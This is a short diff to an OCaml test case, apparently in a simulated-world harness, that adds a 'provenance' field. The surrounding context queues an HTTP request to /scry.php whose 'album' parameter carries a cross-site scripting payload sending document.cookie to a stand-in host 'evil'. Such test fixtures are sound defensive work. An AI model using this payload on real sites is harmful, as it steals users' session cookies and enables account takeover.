@@ -89,4 +89,5 @@ let case =
       (fun w ->
         Shift_os.World.queue_request w
           "GET /scry.php?album=<script>document.location='http://evil/'+document.cookie</script> HTTP/1.0");
+    provenance = None;
   }
